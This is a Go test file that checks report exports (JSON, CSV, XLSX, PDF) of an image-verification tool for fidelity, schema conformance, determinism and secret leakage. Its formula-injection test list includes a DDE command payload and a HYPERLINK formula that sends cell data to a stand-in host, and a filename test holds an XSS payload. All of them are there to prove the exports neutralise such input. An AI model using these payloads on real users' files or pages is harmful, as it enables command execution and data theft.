package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"
	"github.com/xuri/excelize/v2"

	"assay/client"
	"assay/client/assert"
	"assay/client/store"
	"assay/client/submission"
	"assay/client/verdict"
)

// TestEveryFormSaysWhatTheWindowSays holds JSON, CSV and XLSX to the words and numbers of client/verdict, which the window shows.
func TestEveryFormSaysWhatTheWindowSays(t *testing.T) {
	f := setup(t)
	ids := f.everyKind()
	type said struct{ Status, Verdict, Agreement, Contradiction, Score string }
	want := map[string]said{}
	for _, id := range ids {
		sub, _, err := f.Get(t.Context(), id)
		assert.NoError(t, err)
		v := verdict.Of(sub.Result)
		s := said{string(v.Status), v.Headline, v.Agreement, v.Contradiction, ""}
		if v.Score != nil {
			s.Score = v.Score.Sent
		}
		want["request-"+id] = s
	}

	type line struct {
		RequestID, Status, Verdict, Agreement, Contradiction string
		Score                                                *struct{ Value json.Number }
	}
	fromJSON := func(lines []line) map[string]said {
		got := map[string]said{}
		for _, l := range lines {
			s := said{l.Status, l.Verdict, l.Agreement, l.Contradiction, ""}
			if l.Score != nil {
				s.Score = l.Score.Value.String()
			}
			got[l.RequestID] = s
		}
		return got
	}
	t.Run("NDJSON", func(t *testing.T) {
		var lines []line
		for text := range bytes.Lines(f.export("all.ndjson", ids...)) {
			var l line
			assert.NoError(t, json.Unmarshal(text, &l))
			lines = append(lines, l)
		}
		assert.Equal(t, want, fromJSON(lines))
	})
	t.Run("JSON", func(t *testing.T) {
		var document struct{ Results []line }
		assert.NoError(t, json.Unmarshal(f.export("all.json", ids...), &document))
		assert.Equal(t, want, fromJSON(document.Results))
	})
	t.Run("CSV", func(t *testing.T) {
		got := map[string]said{}
		for _, row := range csvRows(t, f.export("all.csv", ids...)) {
			got[row["request_id"]] = said{row["status"], row["verdict"], row["agreement"], row["contradiction"], row["score"]}
		}
		assert.Equal(t, want, got)
	})
	t.Run("XLSX", func(t *testing.T) {
		got := map[string]said{}
		for _, row := range sheetRows(t, f.export("all.xlsx", ids...), "Results") {
			got[row["request_id"]] = said{row["status"], row["verdict"], row["agreement"], row["contradiction"], asCell(row["score"])}
		}
		for id, s := range want {
			s.Score = asCell(s.Score)
			want[id] = s
		}
		assert.Equal(t, want, got)
	})
}

// asCell is a number by the digits that a cell of a spreadsheet surely keeps.
func asCell(sent string) string {
	number, err := strconv.ParseFloat(sent, 64)
	if err != nil {
		return sent
	}
	return strconv.FormatFloat(number, 'g', 14, 64)
}

// csvRows are the rows of a CSV by the headers of their cells, as they were before tabs were put before them.
func csvRows(t *testing.T, content []byte) (rows []map[string]string) {
	t.Helper()
	all, err := csv.NewReader(bytes.NewReader(content)).ReadAll()
	assert.NoError(t, err)
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, cell := range cells {
			row[all[0][i]] = cell
		}
		for _, name := range strings.Fields(row["escaped"]) {
			text, escaped := strings.CutPrefix(row[name], "\t")
			if !escaped {
				t.Errorf("%s is said to begin with a tab and is %q", name, row[name])
			}
			row[name] = text
		}
		rows = append(rows, row)
	}
	return rows
}

// sheetRows are the rows of a sheet by the headers of their cells, numbers as they are kept.
func sheetRows(t *testing.T, content []byte, sheet string) (rows []map[string]string) {
	t.Helper()
	book, err := excelize.OpenReader(bytes.NewReader(content))
	assert.NoError(t, err)
	defer func() { _ = book.Close() }()
	all, err := book.GetRows(sheet, excelize.Options{RawCellValue: true})
	assert.NoError(t, err)
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, cell := range cells {
			row[all[0][i]] = cell
		}
		rows = append(rows, row)
	}
	return rows
}

func TestResultsKeepToTheirSchema(t *testing.T) {
	schema, err := jsonschema.NewCompiler().Compile("result.schema.json")
	assert.NoError(t, err)
	f := setup(t)
	ids := append(f.everyKind(), "with everything")
	f.withEverything("with everything")
	for text := range bytes.Lines(f.export("all.ndjson", ids...)) {
		value, err := jsonschema.UnmarshalJSON(bytes.NewReader(text))
		assert.NoError(t, err)
		if err := schema.Validate(value); err != nil {
			t.Errorf("%s\n%v", text, err)
		}
	}
	for _, wrong := range []string{`{}`, `{"schema": "assay.result/2"}`} {
		value, _ := jsonschema.UnmarshalJSON(strings.NewReader(wrong))
		if schema.Validate(value) == nil {
			t.Errorf("%s keeps to it", wrong)
		}
	}
}

// withEverything adds a submission that has all that a Result can say.
func (f *fixture) withEverything(id string) {
	f.t.Helper()
	f.add(id, kinds["fake"], func(s *submission.Submission) {
		s.SHA256, s.SendName, s.Copy, s.RequestID = fmt.Sprintf("%064x", len(id)), "upload.jpg", submission.Copy{SHA256: strings.Repeat("ab", 32), Size: 1000, Removed: "position,camera"}, "request-fake"
	})
	assert.NoError(f.t, f.SetNote(f.t.Context(), id, "from the second source\nwho called"))
	if _, err := f.AddFeedback(f.t.Context(), feedbackOn("request-fake")); err != nil {
		f.t.Fatal(err)
	}
}

// TestGolden holds the form of a line to what it was in every earlier version.
func TestGolden(t *testing.T) {
	f := setup(t)
	f.withEverything("one")
	got := f.export("one.ndjson", "one")
	want, err := os.ReadFile(filepath.Join("testdata", "one.ndjson"))
	if err != nil || !bytes.Equal(got, want) {
		t.Errorf("%v; it is now\n%s", err, got)
	}
}

func TestTheSameExportGivesTheSameBytes(t *testing.T) {
	f := setup(t)
	ids := f.everyKind()
	slices.Sort(ids)
	for _, ending := range []string{".json", ".ndjson", ".csv", ".xlsx", ".html", ".pdf"} {
		if one, two := f.export("one"+ending, ids...), f.export("two"+ending, ids...); !bytes.Equal(one, two) {
			t.Errorf("two of %s differ", ending)
		}
	}
}

func TestAbsentIsNotZero(t *testing.T) {
	f := setup(t)
	f.everyKind()
	for id, want := range map[string]string{"null score": "", "zero score": "0", "no number": "", "no models": "", "many digits": "99.99999999999999"} {
		if got := csvRows(t, f.export("r.csv", id))[0]["score"]; got != want {
			t.Errorf("%s: the score in CSV is %q, want %q", id, got, want)
		}
		if got := sheetRows(t, f.export("r.xlsx", id), "Results")[0]["score"]; asCell(got) != asCell(want) {
			t.Errorf("%s: the score in XLSX is %q, want %q", id, got, want)
		}
	}
	models := sheetRows(t, f.export("r.xlsx", "fake", "null score"), "Models")
	var scores []string
	for _, row := range models {
		scores = append(scores, row["model"]+"="+row["score"])
	}
	if want := []string{"a-img=97.25", "b-img=0", "c-img=", "a="}; !slices.Equal(scores, want) {
		t.Errorf("models: %q, want %q", scores, want)
	}
}

// formulas are what a spreadsheet could take for one.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1)", "  =1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠a", "\t=1", "=cmd|' /C calc'!A0", "\r=1+1", "=HYPERLINK(\"https://x.example?\"&A1)",
}

func TestATextIsNeverAFormula(t *testing.T) {
	f := setup(t)
	var ids []string
	for i, text := range formulas {
		id := strconv.Itoa(i)
		f.add(id, kinds["authentic"], func(s *submission.Submission) { s.Name = "x" + text })
		assert.NoError(t, f.SetNote(t.Context(), id, text))
		ids = append(ids, id)
	}
	asCSV, asXLSX := f.export("r.csv", ids...), f.export("r.xlsx", ids...)
	t.Run("CSV", func(t *testing.T) {
		all, err := csv.NewReader(bytes.NewReader(asCSV)).ReadAll()
		assert.NoError(t, err)
		for _, row := range all {
			for _, cell := range row {
				if start := strings.TrimLeft(cell, " \u00a0"); start != "" && strings.ContainsAny(string([]rune(start)[0]), "=+-@＝＋－＠\r") {
					t.Errorf("a cell is %q", cell)
				}
			}
		}
		for i, row := range csvRows(t, asCSV) {
			if want := strings.ReplaceAll(formulas[i], "\r", "\n"); row["note"] != want { // a line break of any kind is one line feed
				t.Errorf("a script reads %q of %q", row["note"], want)
			}
		}
	})
	t.Run("XLSX", func(t *testing.T) {
		book, err := excelize.OpenReader(bytes.NewReader(asXLSX))
		assert.NoError(t, err)
		defer func() { _ = book.Close() }()
		for row := range formulas {
			for column := range 27 {
				cell, _ := excelize.CoordinatesToCellName(column+1, row+2)
				if formula, err := book.GetCellFormula("Results", cell); err != nil || formula != "" {
					t.Errorf("%s is the formula %q, %v", cell, formula, err)
				}
			}
		}
	})
	t.Run("in another program", func(t *testing.T) { // read, and written as its own idea of a CSV
		convert, err := exec.LookPath("ssconvert")
		if err != nil {
			if os.Getenv("CI") != "" {
				t.Fatalf("CI is set, so ssconvert must be installed, by .ci/install evidence: %v", err)
			}
			t.Skip("ssconvert is not installed here: .ci/install evidence does it")
		}
		for _, name := range []string{"r.csv", "r.xlsx"} {
			out := filepath.Join(t.TempDir(), "back.csv")
			command := exec.CommandContext(t.Context(), convert, "--recalc", filepath.Join(f.folder, name), out) //nolint:gosec // found by LookPath
			command.Env = append(os.Environ(), "LC_ALL=C.UTF-8", "HOME="+t.TempDir())
			if said, err := command.CombinedOutput(); err != nil {
				t.Fatalf("%s: %v: %s", name, err, said)
			}
			back, err := os.ReadFile(out)
			assert.NoError(t, err)
			all, err := csv.NewReader(bytes.NewReader(back)).ReadAll()
			assert.NoError(t, err)
			note := slices.Index(all[0], "note")
			for i, row := range all[1:] {
				visible := func(s string) string { return strings.TrimSpace(strings.ReplaceAll(s, "\r", "")) }
				if got, want := visible(row[note]), visible(formulas[i]); got != want {
					t.Errorf("%s: %q became %q", name, formulas[i], got)
				}
			}
		}
	})
}

func TestNamesOfAllScripts(t *testing.T) {
	f := setup(t)
	names := []string{"👩‍👩‍👧 🙂.jpg", "사진 한글.jpg", "صورة ١.jpg", strings.Repeat("é", 125) + ".jpg", "a\"b,c;d\ne.jpg", "001234", "1e5", "2026-01-02", "<img src=x onerror=alert(1)>.jpg"}
	var ids []string
	for i, name := range names {
		f.add(strconv.Itoa(i), kinds["authentic"], nil)
		assert.NoError(t, f.SetNote(t.Context(), strconv.Itoa(i), name))
		_, _, err := f.ChangeTags(t.Context(), map[string]store.TagChange{strconv.Itoa(i): {Add: []string{"seen", "river bank"}}})
		assert.NoError(t, err)
		ids = append(ids, strconv.Itoa(i))
	}
	fromCSV, fromXLSX := csvRows(t, f.export("r.csv", ids...)), sheetRows(t, f.export("r.xlsx", ids...), "Results")
	var document struct {
		Results []struct {
			Note string
			Tags []string
		}
	}
	assert.NoError(t, json.Unmarshal(f.export("r.json", ids...), &document))
	for i, name := range names {
		if got := []string{fromCSV[i]["note"], fromXLSX[i]["note"], document.Results[i].Note}; !slices.Equal(got, []string{name, name, name}) {
			t.Errorf("%q came through as %q", name, got)
		}
		if got := []string{fromCSV[i]["tags"], fromXLSX[i]["tags"], strings.Join(document.Results[i].Tags, ", ")}; !slices.Equal(got, slices.Repeat([]string{"seen, river bank"}, 3)) {
			t.Errorf("the tags came through as %q", got)
		}
	}
}

func TestWhatASpreadsheetCannotHoldIsCut(t *testing.T) {
	f := setup(t)
	f.add("long", kinds["authentic"], nil)
	for _, note := range []string{strings.Repeat("a", 40_000), strings.Repeat("🙂", 20_000), "a" + strings.Repeat("🙂", 20_000)} {
		assert.NoError(t, f.SetNote(t.Context(), "long", note))
		got := sheetRows(t, f.export("r.xlsx", "long"), "Results")[0]["note"]
		kept, cut := strings.CutSuffix(got, "…")
		if !cut || !strings.HasPrefix(note, kept) || len(kept) < 32_000 {
			t.Errorf("%d bytes became %d, ending with %q", len(note), len(got), got[len(got)-8:])
		}
		if whole := csvRows(t, f.export("r.csv", "long"))[0]["note"]; whole != note {
			t.Error("a CSV has all of it")
		}
	}
}

func TestNothingSecretIsExported(t *testing.T) {
	f := setup(t)
	ids := f.everyKind()
	for _, ending := range []string{".json", ".ndjson", ".csv", ".xlsx", ".html", ".pdf"} {
		content := f.export("r"+ending, ids...)
		if ending == ".xlsx" {
			for _, sheet := range []string{"Results", "Models"} {
				for _, row := range sheetRows(t, content, sheet) {
					for cell := range maps.Values(row) {
						content = append(content, cell...)
					}
				}
			}
		}
		if ending == ".pdf" { // whose pages are compressed
			content = append(content, tool(t, "pdftotext", "-raw", filepath.Join(f.folder, "r.pdf"), "-")...)
		}
		for _, secret := range []string{"secretsecret", "/home/reporter"} {
			if bytes.Contains(content, []byte(secret)) {
				t.Errorf("%s holds %s", ending, secret)
			}
		}
	}
}

func TestTimesAreUTC(t *testing.T) {
	f := setup(t)
	f.add("one", kinds["fake"], nil)
	row := csvRows(t, f.export("r.csv", "one"))[0]
	if got := []string{row["accepted_utc"], row["answered_utc"]}; !slices.Equal(got, []string{"2026-11-21T11:00:00Z", "2026-11-21T11:01:00Z"}) {
		t.Errorf("%q", got)
	}
	cell := sheetRows(t, f.export("r.xlsx", "one"), "Results")[0]["accepted_utc"]
	days, err := strconv.ParseFloat(cell, 64)
	assert.NoError(t, err)
	at, err := excelize.ExcelDateToTime(days, false)
	if want := noon.UTC(); err != nil || at.Sub(want).Abs() > time.Second {
		t.Errorf("a spreadsheet reads %v, %v, want %v", at, err, want)
	}
}

func feedbackOn(requestID string) (f store.Feedback) {
	f.ID, f.Given = "feedback-1", noon
	f.Feedback = client.Feedback{RequestID: requestID, Label: client.LabelManipulated, Category: client.Confirmation, Comment: "the shadow"}
	return f
}
